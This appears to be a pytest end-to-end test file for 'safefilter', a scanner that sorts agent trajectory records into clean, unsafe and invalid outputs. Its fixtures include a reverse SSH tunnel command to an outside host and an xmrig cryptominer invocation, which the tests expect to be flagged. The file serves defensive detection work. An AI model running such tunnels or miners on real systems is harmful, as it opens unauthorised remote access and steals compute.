"""End to end: a config-driven run writes the contract's run directory and its books balance."""
import json
from importlib import resources
from pathlib import Path

import jsonschema
import pyarrow.parquet as pq
import pytest

from safefilter.cli import main
from safefilter.config import load_config
from safefilter.errors import ConfigError, SafeFilterError
from safefilter.run import run

from conftest import bash, call, tool, traj

MINI = str(Path(__file__).parent / "data" / "mini_pack.yaml")
SAFETY_SCHEMA = json.loads(resources.files("safefilter").joinpath("schemas/safety.schema.json").read_text())


def records():
    return [
        traj(bash("ls -la", "a"), tool("total 0", "a"), rid="clean-1"),
        traj(bash("ssh -fNR 9000:localhost:22 u@203.0.113.9", "a"), rid="tunnel-1"),
        traj(bash("./xmrig -o pool:3333", "m"), tool("[cpu] accepted (1/0) diff 100", "m"), rid="miner-1"),
        traj(bash("ssh -fNR 9000:localhost:22 u@203.0.113.9", "a"), task="Open an ssh tunnel to staging",
             rid="requested-1"),
        {"messages": [{"role": "user", "content": "hi"}], "reward": 0.30000000000000004},  # no id, odd float
    ]


@pytest.fixture
def input_file(tmp_path):
    path = tmp_path / "in" / "rollouts.jsonl"
    path.parent.mkdir()
    lines = [json.dumps(r, separators=(", ", ": ")) for r in records()]  # unusual spacing must survive
    lines.insert(2, '{"broken": ')
    lines.insert(4, "")
    path.write_text("\n".join(lines) + "\n")
    return path


def do_run(input_file, out, *overrides):
    config, applied = load_config(None, [f"input={input_file}", f"output={out}", f"rules.packs=[{MINI}]",
                                          "progress=false", *overrides])
    return run(config, overrides=applied)


def read_jsonl(folder):
    return [json.loads(line) for p in sorted(Path(folder).glob("*.jsonl")) for line in p.read_text().splitlines()]


def test_run_writes_contract_layout(input_file, tmp_path):
    out = tmp_path / "run"
    summary = do_run(input_file, out)
    c = summary.counts
    assert (c["input"], c["clean"], c["unsafe"], c["invalid"]) == (6, 3, 2, 1)
    assert c["categories"] == {"cryptomining": 1, "tunneling": 1}
    # clean records are byte-for-byte the input lines
    input_lines = input_file.read_text().splitlines()
    clean_lines = (out / "clean" / "part-00000-00000.jsonl").read_text().splitlines()
    assert clean_lines == [input_lines[0], input_lines[5], input_lines[6]]
    assert "0.30000000000000004" in clean_lines[2]
    unsafe = {r["id"]: r for r in read_jsonl(out / "unsafe")}
    assert set(unsafe) == {"tunnel-1", "miner-1"}
    for record in unsafe.values():
        jsonschema.validate(record["safety"], SAFETY_SCHEMA)
    miner = unsafe["miner-1"]["safety"]
    assert miner["categories"] == ["cryptomining"] and miner["severity"] == "critical"
    assert miner["first_unsafe_message"] == 2
    assert {f["rule_id"] for f in miner["findings"]} == {"mini-miner", "mini-miner-output"}
    # the unsafe record is the input record (same keys and values) plus safety
    original = records()[2]
    assert {k: v for k, v in unsafe["miner-1"].items() if k != "safety"} == original
    (bad,) = read_jsonl(out / "invalid")
    assert bad["line"] == 3 and "not valid JSON" in bad["error"] and bad["raw"] == '{"broken": '
    assert bad["source"] == str(input_file.resolve())


def test_manifest_records_config_hashes_counts(input_file, tmp_path):
    out = tmp_path / "run"
    do_run(input_file, out, "policy.min_severity=medium")
    manifest = json.loads((out / "manifest.json").read_text())
    assert manifest["overrides"][-1] == "policy.min_severity=medium"
    assert manifest["config"]["policy"]["min_severity"] == "medium"
    assert manifest["inputs"][0]["sha256"] and manifest["inputs"][0]["bytes"] == input_file.stat().st_size
    assert manifest["rule_packs"][0]["name"] == "mini" and len(manifest["rule_packs"][0]["sha256"]) == 64
    assert manifest["counts"]["input"] == 6 and manifest["counts"]["requested_findings"] == 1
    assert manifest["versions"]["safefilter"]
    assert not list(out.rglob(".*.tmp"))  # no temporaries left behind


def test_requested_findings_can_count_as_unsafe(input_file, tmp_path):
    summary = do_run(input_file, tmp_path / "run", "policy.requested_is_unsafe=true")
    assert summary.counts["unsafe"] == 3


def test_allowlisted_host_and_disabled_rule(input_file, tmp_path):
    summary = do_run(input_file, tmp_path / "run", "allowlist.hosts=[203.0.113.9]",
                     "policy.disabled_rules=[mini-miner-output]")
    assert summary.counts["unsafe"] == 1
    (miner,) = read_jsonl(tmp_path / "run" / "unsafe")
    assert {f["rule_id"] for f in miner["safety"]["findings"]} == {"mini-miner"}


def test_existing_run_is_not_overwritten_by_accident(input_file, tmp_path):
    do_run(input_file, tmp_path / "run")
    with pytest.raises(SafeFilterError, match="overwrite=true"):
        do_run(input_file, tmp_path / "run")
    assert do_run(input_file, tmp_path / "run", "overwrite=true").counts["input"] == 6


def test_parquet_output(input_file, tmp_path):
    do_run(input_file, tmp_path / "run", "output_format=parquet")
    unsafe = pq.read_table(next((tmp_path / "run" / "unsafe").glob("*.parquet"))).to_pylist()
    assert sorted(r["id"] for r in unsafe) == ["miner-1", "tunnel-1"]
    assert all(r["safety"]["unsafe"] for r in unsafe)
    clean = pq.read_table(next((tmp_path / "run" / "clean").glob("*.parquet"))).to_pylist()
    assert len(clean) == 3


def test_shards_split_and_counts_hold(tmp_path):
    path = tmp_path / "many.jsonl"
    path.write_text("\n".join(json.dumps(traj(bash(f"echo {i}"), rid=f"r{i}")) for i in range(25)) + "\n")
    summary = do_run(path, tmp_path / "run", "max_records_per_shard=10", "batch_size=4")
    assert summary.counts["clean"] == 25
    parts = sorted(p.name for p in (tmp_path / "run" / "clean").iterdir())
    assert parts == ["part-00000-00000.jsonl", "part-00000-00001.jsonl", "part-00000-00002.jsonl"]
    assert [r["id"] for r in read_jsonl(tmp_path / "run" / "clean")] == [f"r{i}" for i in range(25)]


@pytest.mark.parametrize("overrides, message", [
    (["rulez.packs=[x]"], "unknown config key 'rulez'"),
    (["policy.min_severty=high"], "did you mean 'policy.min_severity'"),
    (["policy.min_severity=urgent"], "config key 'policy.min_severity'"),
    (["batch_size=zero"], "config key 'batch_size'"),
    (["nonsense"], "not key=value"),
])
def test_config_errors_name_the_key(overrides, message):
    with pytest.raises(ConfigError, match=message):
        load_config(None, ["input=x", "output=y", *overrides])


def test_cli_run_scan_and_rules(input_file, tmp_path, capsys):
    config = tmp_path / "c.yaml"
    config.write_text(f"input: {input_file}\noutput: {tmp_path / 'cli-run'}\nrules:\n  packs: [{MINI}]\n")
    assert main(["run", "--config", str(config), "--no-progress"]) == 0
    assert "input 6  clean 3  unsafe 2  invalid 1" in capsys.readouterr().out
    assert main(["run", "--config", str(config)]) == 2  # refuses to overwrite
    assert "overwrite=true" in capsys.readouterr().err
    assert main(["scan", str(input_file), "--pack", MINI, "--unsafe-only"]) == 0
    printed = [json.loads(line) for line in capsys.readouterr().out.splitlines()]
    assert {r["id"] for r in printed if "invalid" not in r} == {"tunnel-1", "miner-1"}
    assert main(["rules", "list", "--pack", MINI, "--json"]) == 0
    assert len(json.loads(capsys.readouterr().out)) == 6
    assert main(["run", "--config", str(config), "--set", "policy.bogus=1"]) == 2
    assert "unknown config key 'policy.bogus'" in capsys.readouterr().err


def test_a_record_that_breaks_a_detector_goes_to_invalid(input_file, tmp_path):
    from safefilter import Scanner

    class Fragile:
        name = "fragile"

        def detect_batch(self, items):
            if any(item.trajectory.id == "miner-1" for item in items):
                raise RuntimeError("boom")
            return [[] for _ in items]

    scanner = Scanner.from_rules([MINI])
    scanner.detectors.append(Fragile())
    pairs = [(r, r.get("id", "x")) for r in records()]
    results = scanner.scan_records(pairs)
    assert [r.record_id for r in results if r.error] == ["miner-1"]
    assert "RuntimeError: boom" in results[2].error
    assert results[1].verdict.unsafe and not results[0].verdict.unsafe


def test_scanner_pickles_for_worker_processes():
    import pickle

    from safefilter import Scanner

    scanner = Scanner.from_rules([MINI])
    clone = pickle.loads(pickle.dumps(scanner))  # what datasets.map(num_proc) and Ray do
    record = records()[2]
    assert clone.scan(record) == scanner.scan(record)
